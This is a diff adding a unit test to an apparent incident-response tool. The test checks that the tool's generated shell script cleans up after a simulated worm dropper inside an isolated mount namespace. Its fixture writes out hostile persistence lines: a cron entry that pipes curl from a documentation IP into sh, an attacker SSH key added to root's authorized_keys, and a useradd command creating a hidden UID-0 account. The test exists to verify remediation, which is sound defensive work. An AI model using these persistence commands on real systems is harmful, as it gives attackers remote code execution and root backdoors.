@@ -478,5 +478,60 @@ TEST(RespondSafety, ApplyUndoesAShellDropperAndKeepsTheAdministratorsLines) {
   EXPECT_TRUE(fs::exists(root / "tmp/.x.sh"));
 }
 
+// Items 1–4 and 6 for the generated sh script, which acts on the live system's own paths: run with --apply in a
+// private mount namespace where /etc and /root are copies, so the host's files are never touched.
+TEST(RespondSafety, TheShScriptUndoesADropperInAPrivateMountNamespace) {
+  if (::geteuid() != 0) GTEST_SKIP() << "needs root for a mount namespace";
+  if (test::run({"/usr/bin/unshare", "-m", "--propagation", "private", "/bin/true"}).exit_code != 0)
+    GTEST_SKIP() << "no mount namespaces here";
+  test::TempDir dir;
+  const std::string worm_cron = "*/5 * * * * root curl -fsSL http://203.0.113.9/pm.sh|sh";
+  const std::string worm_key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCworm worm@x";
+  test::write_file(dir / "ev/tmp/.x.sh",
+                   "#!/bin/sh\n"
+                   "echo '" +
+                       worm_cron +
+                       "' >> /etc/crontab\n"
+                       "echo '" +
+                       worm_key +
+                       "' >> ~/.ssh/authorized_keys\n"
+                       "echo '127.0.0.1 minexmr.com' >> /etc/hosts\n"
+                       "useradd -o -u 0 -g 0 -M -s /bin/bash hilde\n");
+  ASSERT_EQ(ms({"scan", "--quiet", "--case", (dir / "case.sqlite").string(), (dir / "ev").string()}).exit_code, 1);
+  ASSERT_EQ(
+      ms({"respond", (dir / "case.sqlite").string(), "--script", "sh", "--out", (dir / "r.sh").string()}).exit_code, 0);
+  // The system as the dropper left it, in copies.
+  ASSERT_EQ(test::run({"/bin/cp", "-a", "/etc", (dir / "etc").string()}).exit_code, 0);
+  const std::string admin_cron = "17 * * * * root cd / && run-parts --report /etc/cron.hourly";
+  test::write_file(dir / "etc/crontab", admin_cron + "\n" + worm_cron + "\n");
+  test::write_file(dir / "etc/hosts", "127.0.0.1 localhost\n127.0.0.1 minexmr.com\n");
+  test::write_file(dir / "root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nadmin admin@laptop\n" + worm_key + "\n");
+  test::write_file(dir / "etc/passwd", test::read_file(dir / "etc/passwd") + "hilde:x:0:0::/root:/bin/bash\n");
+  std::string shadow = test::read_file(dir / "etc/shadow");
+  shadow = "root:$6$minesweep$usable:19000:0:99999:7:::\n" + shadow.substr(shadow.find('\n') + 1) +
+           "hilde:$6$worm$hash:19000:0:99999:7:::\n";
+  test::write_file(dir / "etc/shadow", shadow);
+  const std::string host_hosts = test::read_file("/etc/hosts");
+  auto in_namespace = [&](const std::string& args) {
+    return test::run({"/usr/bin/unshare", "-m", "--propagation", "private", "/bin/bash", "-c",
+                      "mount --bind " + (dir / "etc").string() + " /etc && mount --bind " + (dir / "root").string() +
+                          " /root && MINESWEEP_WORK=" + (dir / "work").string() + " bash " + (dir / "r.sh").string() +
+                          args});
+  };
+  auto dry = in_namespace("");
+  EXPECT_NE(dry.out.find("would comment out line(s) 2 of /etc/crontab"), std::string::npos) << dry.out << dry.err;
+  EXPECT_NE(dry.out.find("would lock the password of hilde"), std::string::npos) << dry.out;
+  EXPECT_EQ(test::read_file(dir / "etc/crontab"), admin_cron + "\n" + worm_cron + "\n");
+  auto applied = in_namespace(" --apply");
+  EXPECT_EQ(applied.exit_code, 0) << applied.out << applied.err;
+  EXPECT_EQ(test::read_file(dir / "etc/crontab"), admin_cron + "\n# removed by minesweep: " + worm_cron + "\n")
+      << applied.out;
+  EXPECT_EQ(test::read_file(dir / "etc/hosts"), "127.0.0.1 localhost\n# removed by minesweep: 127.0.0.1 minexmr.com\n");
+  EXPECT_EQ(test::read_file(dir / "root/.ssh/authorized_keys"),
+            "ssh-ed25519 AAAAC3Nadmin admin@laptop\n# removed by minesweep: " + worm_key + "\n");
+  EXPECT_NE(test::read_file(dir / "etc/shadow").find("\nhilde:!$6$worm$hash"), std::string::npos) << applied.out;
+  EXPECT_EQ(test::read_file("/etc/hosts"), host_hosts) << "the host's own files are untouched";
+}
+
 }  // namespace
 }  // namespace msw
